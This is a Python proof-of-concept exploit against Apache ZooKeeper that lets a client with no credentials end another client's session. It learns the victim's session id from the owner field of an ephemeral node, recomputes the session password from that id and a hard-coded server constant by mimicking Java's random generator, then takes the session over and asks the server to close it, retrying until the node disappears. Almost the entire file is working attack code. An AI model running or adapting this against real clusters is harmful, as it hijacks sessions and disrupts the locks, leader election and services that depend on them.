"""A client without any credentials that ends the session of another one, as anybody can who reaches the port.

ZooKeeper computes the password of a session from its id and a constant, and shows the id as the owner of every
ephemeral node, to those who may not read it as well.
"""

import socket
import struct

CLOSE_SESSION, EXISTS = -11, 3
STAT = struct.Struct(">qqqqiiiqiiq")
SECRET = 0xB3415C00  # of org.apache.zookeeper.server.ZooKeeperServer


def password_of(session):
    """The first 16 bytes of Java's random numbers from this seed."""
    multiplier, mask = 0x5DEECE66D, (1 << 48) - 1
    state, password = ((session ^ SECRET) ^ multiplier) & mask, b""
    while len(password) < 16:
        state = (state * multiplier + 0xB) & mask
        password += struct.pack("<I", state >> 16)
    return password


def framed(body):
    return struct.pack(">i", len(body)) + body


class Connection:
    def __init__(self, address, session=0, password=bytes(16), first_request=b""):
        host, port = address.split(",")[0].split("/")[0].rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), 10)
        connect = struct.pack(">iqiqi", 0, 0, 10_000, session, len(password)) + password
        try:
            self.socket.sendall(framed(connect) + first_request)
            # Protocol, time-out, session, password; the session is 0 for one that is over.
            self.session = struct.unpack_from(">iiq", self.receive())[2]
        except ConnectionError:
            self.socket.close()
            raise

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def receive(self):
        return self.exactly(struct.unpack(">i", self.exactly(4))[0])

    def exactly(self, size):
        data = b""
        while len(data) < size:
            piece = self.socket.recv(size - len(data))
            if not piece:
                raise ConnectionError("the server has closed the connection")
            data += piece
        return data

    def ask(self, kind, body=b""):
        self.socket.sendall(framed(struct.pack(">ii", 1, kind) + body))
        return self.answer()

    def answer(self):
        reply = self.receive()
        code = struct.unpack_from(">iqi", reply)[2]
        return reply[16:] if code == 0 else None

    def owner_of(self, path):
        """The session that an ephemeral node belongs to; None if there is no such node."""
        name = path.encode()
        stat = self.ask(EXISTS, struct.pack(">i", len(name)) + name + b"\0")
        return stat and STAT.unpack(stat)[7]


def close_session(address, session):
    """Takes the session over and asks for its end."""
    close = framed(struct.pack(">ii", 1, CLOSE_SESSION))
    try:
        with Connection(address, session, password_of(session), close) as intruder:
            intruder.receive()
    except ConnectionError:
        pass


def lives(address, session):
    """Whether the server knows this session."""
    host, port = address.rsplit(":", 1)
    with socket.create_connection((host, int(port)), 10) as connection:
        connection.sendall(b"dump")
        told = connection.makefile().read().replace("(", " ").replace(":", " ").split()
    return hex(session) in told


def end_session_of(address, path, tries=50):
    """Ends the session that this node belongs to; whether the node is gone."""
    with Connection(address) as stranger:
        session = stranger.owner_of(path)
        for _ in range(tries):  # the session's own client comes back at once, and the server then closes ours
            close_session(address, session)
            if stranger.owner_of(path) is None:
                return True
    return False
